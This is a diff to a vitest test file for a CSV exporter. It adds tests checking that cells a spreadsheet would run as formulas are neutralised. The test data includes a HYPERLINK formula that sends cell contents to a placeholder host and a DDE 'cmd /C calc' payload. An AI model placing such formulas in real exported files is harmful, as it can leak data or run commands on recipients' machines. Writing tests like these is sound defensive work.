@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { CsvSyntaxError, csvCell, decodeUtf8, parseCsv } from './csv.ts';
+import { CsvSyntaxError, csvCell, decodeUtf8, neutraliseFormula, parseCsv } from './csv.ts';
 
 describe('parseCsv', () => {
   it('reads a header and rows, with BOM and CRLF as Excel writes them', () => {
@@ -50,14 +50,34 @@ describe('parseCsv', () => {
         (table) => {
           const rows = table.map((r) => [...r.slice(0, -1), `x${r.at(-1)}`]); // never a blank line
           const text = ['h1,h2', ...rows.map((r) => r.map(csvCell).join(','))].join('\r\n');
+          // A cell starting with CR reads back behind its formula guard (an apostrophe).
+          const expected = rows.map((r) => r.map((c) => (c.startsWith('\r') ? `'${c}` : c)));
           expect(
             parseCsv(text, ',')
               .slice(1)
               .map((r) => r.fields),
-          ).toEqual(rows);
+          ).toEqual(expected);
         },
       ),
     );
+  });
+});
+
+describe('formula injection (open data opened in a spreadsheet)', () => {
+  it('neutralises every cell a spreadsheet would run as a formula, and keeps numbers numbers', () => {
+    expect(csvCell('=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")')).toBe(
+      `"'=HYPERLINK(""http://x.example/?""&A1,""Bấm vào đây"")"`,
+    );
+    expect(csvCell('+1+1')).toBe("'+1+1");
+    expect(csvCell('-2+3+cmd|" /C calc"!A0')).toBe(`"'-2+3+cmd|"" /C calc""!A0"`);
+    expect(csvCell('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
+    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
+    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
+    expect(csvCell('UBND xã An = tốt')).toBe('UBND xã An = tốt');
+    expect(csvCell(-12.5)).toBe('-12.5');
+    expect(csvCell('-12.5')).toBe('-12.5');
+    expect(csvCell('+84')).toBe('+84');
+    expect(neutraliseFormula('-')).toBe("'-");
   });
 });
 
